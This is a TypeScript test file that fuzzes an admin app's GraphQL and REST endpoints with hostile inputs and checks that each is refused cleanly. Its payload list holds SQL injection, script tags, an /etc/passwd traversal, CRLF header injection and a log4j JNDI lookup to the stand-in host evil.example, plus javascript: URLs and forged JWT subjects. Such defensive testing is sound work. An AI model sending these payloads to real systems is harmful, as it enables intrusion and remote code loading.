/**
 * A table of hostile strings sent to every argument of every GraphQL query and mutation (read from the
 * schema itself, so a new argument is covered the day it is added) and to every field of the REST routes.
 * No answer may be a 5xx or an `internal` error; a NUL character must be refused as invalid input that
 * names the field. A right-secret JWT naming no real user id must be refused, not crash.
 */
import { randomUUID } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildAdminSchema } from '../admin/api/schema/index.ts';
import { buildAdminApp, gql, issueToken, TEST_JWT_SECRET } from './support/admin.ts';
import { buildCollection, buildUser, createTestEngine, type TestEngine } from './support/engine.ts';
import { multipartBody } from './support/multipart.ts';

const HOSTILE = [
  '\u0000',
  '연차\u0000휴가',
  'x'.repeat(100_000),
  "'; drop table users; --",
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  '\uD800',
  '%00',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as plain text
  '${jndi:ldap://evil.example/a}',
  '\u202E문서\u202D',
  '연차 휴가는 며칠인가요? 😀',
  '\r\nX-Injected: 1',
  '   ',
  '',
];
/** What PostgreSQL cannot store: these must be refused by name, the rest merely not crash. */
const hasNul = (value: string) => value.includes('\u0000') || !value.isWellFormed();

let t: TestEngine;
let app: FastifyInstance;
let admin: string;

beforeAll(async () => {
  t = await createTestEngine({ LOGIN_RATE_LIMIT_PER_MINUTE: '10000' });
  app = await buildAdminApp(t);
  admin = await issueToken(t.database.db, t.admin.userId);
  await buildCollection(t, { name: '인사 규정' });
});
afterAll(async () => {
  await app?.close();
  await t?.close();
});

interface Problem {
  readonly target: string;
  readonly value: string;
  readonly problem: string;
}

/** A harmless value of the type, for arguments the attempt does not aim at. */
function plausible(type: GraphQLInputType): unknown {
  const inner = getNullableType(type);
  if (isListType(inner)) return [plausible(inner.ofType)];
  if (isEnumType(inner)) return inner.getValues()[0]!.value;
  if (isInputObjectType(inner)) {
    const value: Record<string, unknown> = {};
    for (const field of Object.values(inner.getFields())) {
      if (isNonNullType(field.type)) value[field.name] = plausible(field.type);
    }
    return value;
  }
  switch (inner.name) {
    case 'ID':
      return randomUUID();
    case 'Int':
    case 'Float':
      return 1;
    case 'Boolean':
      return false;
    case 'DateTime':
      return '2026-01-01T00:00:00Z';
    case 'Date':
      return '2026-01-01';
    case 'JSON':
      return {};
    default:
      return '보통 값';
  }
}

/** Every place in an argument where a string can go, with how to build the argument around it. */
function stringLeaves(
  type: GraphQLInputType,
  path: string,
): { path: string; wrap: (v: string) => unknown }[] {
  const inner = getNullableType(type);
  if (isListType(inner)) {
    return stringLeaves(inner.ofType, `${path}.0`).map((leaf) => ({ ...leaf, wrap: (v) => [leaf.wrap(v)] }));
  }
  if (isInputObjectType(inner)) {
    return Object.values(inner.getFields()).flatMap((field) =>
      stringLeaves(field.type, `${path}.${field.name}`).map((leaf) => ({
        path: leaf.path,
        wrap: (v: string) => ({ ...(plausible(inner) as object), [field.name]: leaf.wrap(v) }),
      })),
    );
  }
  if (isScalarType(inner) && !['Int', 'Float', 'Boolean'].includes(inner.name))
    return [{ path, wrap: (v) => v }];
  return [];
}

function operationFor(
  kind: 'query' | 'mutation',
  field: GraphQLField<unknown, unknown>,
  args: readonly GraphQLArgument[],
) {
  const named = getNamedType(field.type);
  const selection = isScalarType(named) || isEnumType(named) ? '' : ' { __typename }';
  const declared = args.map((a) => `$${a.name}: ${String(a.type)}`).join(', ');
  const passed = args.map((a) => `${a.name}: $${a.name}`).join(', ');
  return `${kind}${declared ? `(${declared})` : ''} { ${field.name}${passed ? `(${passed})` : ''}${selection} }`;
}

/** ATTACK_REPORT=1 prints the figures of the attack run (attempts, and what went wrong per kind). */
function report(family: string, attempts: number, problems: readonly Problem[]): void {
  if (!process.env.ATTACK_REPORT) return;
  const kinds = new Map<string, number>();
  for (const p of problems) {
    const kind =
      p.problem.startsWith('not refused') || p.problem.startsWith('2') || p.problem.startsWith('4')
        ? 'NUL not refused by name'
        : `5xx/internal`;
    kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
  }
  console.info(
    `[attack] hostile strings, ${family}: ${attempts} attempts, ${problems.length} failures`,
    Object.fromEntries(kinds),
  );
}

describe('hostile strings', () => {
  it('never crash a GraphQL query or mutation, and NUL is refused naming the argument', async () => {
    const schema = buildAdminSchema();
    const problems: Problem[] = [];
    let attempts = 0;
    for (const [kind, root] of [
      ['query', schema.getQueryType()],
      ['mutation', schema.getMutationType()],
    ] as const) {
      for (const field of Object.values(root!.getFields())) {
        for (const arg of field.args) {
          for (const leaf of stringLeaves(arg.type, arg.name)) {
            const others = field.args.filter((a) => a !== arg && isNonNullType(a.type));
            for (const value of HOSTILE) {
              attempts += 1;
              const variables = Object.fromEntries([
                ...others.map((a) => [a.name, plausible(a.type)] as const),
                [arg.name, leaf.wrap(value)],
              ]);
              const result = await gql(app, operationFor(kind, field, [...others, arg]), variables, {
                token: admin,
              });
              const target = `${field.name}(${leaf.path})`;
              const codes = (result.errors ?? []).map((e) => e.extensions?.code);
              if (result.response.statusCode >= 500 || codes.includes('internal')) {
                problems.push({
                  target,
                  value: value.slice(0, 20),
                  problem: `${result.response.statusCode} ${codes}`,
                });
              } else if (hasNul(value)) {
                const error = result.errors?.[0];
                if (error?.extensions?.code !== 'invalid_input' || !error.message.includes(leaf.path)) {
                  problems.push({ target, value: 'NUL', problem: `not refused by name: ${error?.message}` });
                }
              }
            }
          }
        }
      }
    }
    report('GraphQL', attempts, problems);
    expect(problems).toEqual([]);
    expect(attempts).toBeGreaterThan(500);
  });

  it('never crash a REST route, and NUL is refused naming the field', async () => {
    const problems: Problem[] = [];
    let attempts = 0;
    const auth = { authorization: `Bearer ${t.adminKey}` };
    // JSON keeps a lone surrogate (as \ud800); multipart and URLs carry UTF-8, which cannot hold one.
    const check = (
      target: string,
      value: string,
      status: number,
      body: string,
      field: string,
      json = false,
    ) => {
      attempts += 1;
      if (status >= 500) problems.push({ target, value: value.slice(0, 20), problem: `status ${status}` });
      else if (
        (json ? hasNul(value) : value.includes('\u0000')) &&
        (status !== 400 || !body.includes(field))
      ) {
        problems.push({ target, value: 'NUL', problem: `${status} ${body.slice(0, 200)}` });
      }
    };
    for (const value of HOSTILE) {
      for (const [field, body] of [
        ['question', { question: value }],
        ['threadId', { question: '연차는 며칠?', threadId: value }],
        ['collections.0', { question: '연차는 며칠?', collections: [value] }],
      ] as const) {
        const response = await app.inject({
          method: 'POST',
          url: '/api/v1/ask',
          headers: auth,
          payload: body,
        });
        check(`ask ${field}`, value, response.statusCode, response.body, field, true);
      }
      for (const field of ['collection', 'title', 'sourceKey', 'sourceUrl']) {
        const upload = multipartBody({ [field]: value }, [
          { filename: '규정.md', contentType: 'text/markdown', content: '# 규정\n내용' },
        ]);
        const response = await app.inject({
          method: 'POST',
          url: '/api/v1/documents',
          payload: upload.payload,
          headers: { ...upload.headers, ...auth },
        });
        check(`upload ${field}`, value, response.statusCode, response.body, field);
      }
      if (!/[\r\n"]/.test(value)) {
        const upload = multipartBody({}, [
          { filename: value, contentType: 'text/markdown', content: '# 규정' },
        ]);
        const response = await app.inject({
          method: 'POST',
          url: '/api/v1/documents',
          payload: upload.payload,
          headers: { ...upload.headers, ...auth },
        });
        check('upload filename', value, response.statusCode, response.body, 'filename');
      }
      // A lone surrogate cannot be percent-encoded: sent as the invalid UTF-8 a client would produce.
      const encoded = value.isWellFormed() ? encodeURIComponent(value) : '%ED%A0%80';
      for (const url of [
        `/api/v1/documents/${encoded}`,
        ...['action', 'actionPrefix', 'actorId', 'targetType', 'targetId', 'from', 'to', 'format'].map(
          (p) => `/api/v1/exports/audit?${p}=${encoded}`,
        ),
        ...['search', 'platform', 'channelId', 'userId', 'from', 'to', 'feedback', 'unanswered'].map(
          (p) => `/api/v1/exports/conversations?${p}=${encoded}`,
        ),
        `/auth/oidc/start?returnTo=${encoded}`,
      ]) {
        const response = await app.inject({ url, headers: { authorization: `Bearer ${admin}` } });
        if (url.startsWith('/api/v1/exports')) await response.body;
        const field = url.includes('?') ? url.split('?')[1]!.split('=')[0]! : 'id';
        // A path segment with a NUL is simply no such document: 404 is the right refusal there.
        if (url.startsWith('/api/v1/documents/')) {
          if (response.statusCode >= 500)
            problems.push({ target: url.slice(0, 40), value, problem: 'status' });
          continue;
        }
        check(`GET ${url.split('?')[0]} ${field}`, value, response.statusCode, response.body, field);
      }
    }
    report('REST', attempts, problems);
    expect(problems).toEqual([]);
  });

  it('refuses a right-secret access token whose subject is not a user id', async () => {
    const key = new TextEncoder().encode(TEST_JWT_SECRET);
    for (const sub of ['admin', '관리자', '\u0000', `${t.admin.userId}\u0000`, "' or 1=1 --"]) {
      const token = await new SignJWT({ sid: randomUUID() })
        .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
        .setSubject(sub)
        .setIssuer('ex-gpt')
        .setAudience('ex-gpt-console')
        .setIssuedAt()
        .setExpirationTime('5m')
        .sign(key);
      const rest = await app.inject({
        method: 'POST',
        url: '/api/v1/ask',
        headers: { authorization: `Bearer ${token}` },
        payload: { question: '연차는 며칠?' },
      });
      expect(rest.statusCode, sub).toBe(401);
      const graphql = await gql(app, '{ me { email } }', {}, { token });
      expect(graphql.errors?.[0]?.extensions?.code, sub).toBe('unauthenticated');
    }
  });
});

describe('what an error tells', () => {
  it('says the same for an unknown and a forbidden collection, without echoing the names', async () => {
    await buildCollection(t, { name: '임원 보상', readers: ['임원'] });
    const member = await buildUser(t, { groups: ['일반'] });
    const ask = (collections: string[]) =>
      app.inject({
        method: 'POST',
        url: '/api/v1/ask',
        headers: { authorization: `Bearer ${member.apiKey}` },
        payload: { question: '보상 기준은?', collections },
      });
    const forbidden = await ask(['임원 보상']);
    const unknown = await ask(['없는 컬렉션']);
    const huge = await ask(['가'.repeat(50_000)]);
    for (const response of [forbidden, unknown, huge]) {
      expect(response.statusCode).toBe(400);
      expect(response.json().error.code).toBe('invalid_input');
    }
    expect(forbidden.json().error.message).toBe(unknown.json().error.message);
    expect(forbidden.body).not.toContain('임원 보상');
    expect(huge.body.length).toBeLessThan(500);
    // A readable collection still works by name.
    expect((await ask(['인사 규정'])).statusCode).toBe(200);
  });

  it('names a few unknown collections when binding a channel, each cut short, never all of them', async () => {
    // Each name may be 200 characters long (longer ones are refused by the input rules), and many of them.
    const names = ['없는 컬렉션', ...Array.from({ length: 20 }, (_, i) => `${i}${'가'.repeat(190)}`)];
    const result = await gql(
      app,
      'mutation($c: [String!]) { bindChannel(platform: slack, channelId: "C1", collections: $c) { id } }',
      { c: names },
      { token: admin },
    );
    expect(result.errors?.[0]?.extensions?.code).toBe('invalid_input');
    expect(result.errors?.[0]?.message).toContain('없는 컬렉션');
    expect(result.errors?.[0]?.message).toContain('and 18 more');
    expect(result.errors?.[0]?.message.length).toBeLessThan(300);
  });

  it('accepts only http(s) and mailto links as a document’s sourceUrl', async () => {
    const upload = (sourceUrl: string) => {
      const body = multipartBody({ collection: '인사 규정', sourceUrl }, [
        { filename: `링크-${sourceUrl.length}.md`, contentType: 'text/markdown', content: '# 링크\n본문' },
      ]);
      return app.inject({
        method: 'POST',
        url: '/api/v1/documents',
        payload: body.payload,
        headers: { ...body.headers, authorization: `Bearer ${t.adminKey}` },
      });
    };
    for (const bad of [
      'javascript:alert(document.cookie)',
      'JavaScript:alert(1)',
      'data:text/html,<script>1</script>',
      'vbscript:x',
      '/relative',
    ]) {
      const response = await upload(bad);
      expect(response.statusCode, bad).toBe(400);
      expect(response.json().error.message).toMatch(/sourceUrl/);
    }
    for (const good of [
      'https://intranet.example.com/규정/휴가',
      'http://wiki.local/a',
      'mailto:hr@example.com',
    ]) {
      expect((await upload(good)).statusCode, good).toBe(202);
    }
  });
});
